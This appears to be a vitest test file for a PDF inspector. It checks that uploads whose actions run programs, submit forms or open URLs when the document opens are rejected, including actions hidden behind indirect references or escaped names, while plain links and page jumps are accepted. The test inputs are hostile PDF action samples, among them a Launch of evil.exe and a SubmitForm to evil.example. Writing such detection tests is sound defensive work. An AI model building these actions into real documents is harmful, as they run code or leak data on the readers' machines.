import { describe, expect, test } from 'vitest';
import { makePdf } from '../../../test/files/pdf.ts';
import { inspectFile } from './inspect-file.ts';

const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 10 0 R >>';
const link = (action: string, ...more: string[]): Buffer =>
  makePdf({ page: '/Annots [11 0 R]', objects: [action, LINK, ...more] });
const opened = (action: string, ...more: string[]): Buffer =>
  makePdf({ catalog: '/OpenAction 10 0 R', objects: [action, ...more] });

describe('PDF actions behind indirect references or unusual spellings [sec L04]', () => {
  test.each<[string, Buffer]>([
    ['a link that starts a program', link('<< /S 12 0 R /F (evil.exe) >>', '/Launch')],
    ['a program started when the document opens', opened('<< /S 11 0 R /F (evil.exe) >>', '/Launch')],
    [
      'a form submitted when the document opens',
      opened('<< /S 11 0 R /F (https://evil.example/take) >>', '/SubmitForm'),
    ],
    ['another file opened with the document', opened('<< /S 11 0 R /F (x.pdf) /D [0 /Fit] >>', '/GoToR')],
    ['data imported when the document opens', opened('<< /S 11 0 R /F (x.fdf) >>', '/ImportData')],
    [
      'a movie',
      makePdf({
        page: '/Annots [10 0 R]',
        objects: ['<< /Type /Annot /Subtype 11 0 R /Rect [0 0 9 9] /Movie << /F (x.avi) >> >>', '/Movie'],
      }),
    ],
    ['a URL opened with the document', opened('<< /S /URI /URI (https://evil.example/track) >>')],
    [
      'a URL opened with the document through escaped names',
      opened('<< /#53 /U#52I /URI (https://evil.example/track) >>'),
    ],
    [
      'a URL opened with the document through an escaped key',
      makePdf({ catalog: '/Open#41ction 10 0 R', objects: ['<< /S /URI /URI (https://evil.example) >>'] }),
    ],
    [
      'a URL opened with a page',
      makePdf({
        page: '/AA 10 0 R',
        objects: ['<< /O 11 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
      }),
    ],
    [
      'a URL opened after a jump to a page',
      opened('<< /S /GoTo /D [100 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'),
    ],
  ])('rejects %s [sec L04]', async (_, bytes) => {
    expect(await inspectFile('application/pdf', bytes)).toEqual({ reason: 'active-content' });
  });

  test('rejects an action name behind two references as damaged [sec L04]', async () => {
    const bytes = opened('<< /S 11 0 R /F (x) >>', '12 0 R', '/Launch');
    expect(await inspectFile('application/pdf', bytes)).toEqual({ reason: 'damaged' });
  });

  test.each<[string, Buffer]>([
    ['a link to a URL', link('<< /S 12 0 R /URI (https://firm.example) >>', '/URI')],
    ['opening at a page', makePdf({ catalog: '/OpenAction [100 0 R /Fit]' })],
    ['jumping to a page', opened('<< /S 11 0 R /D [100 0 R /Fit] >>', '/GoTo')],
    ['showing the print dialog', opened('<< /S /Named /N /Print >>')],
  ])('accepts %s', async (_, bytes) => {
    expect(await inspectFile('application/pdf', bytes)).not.toHaveProperty('reason');
  });
});
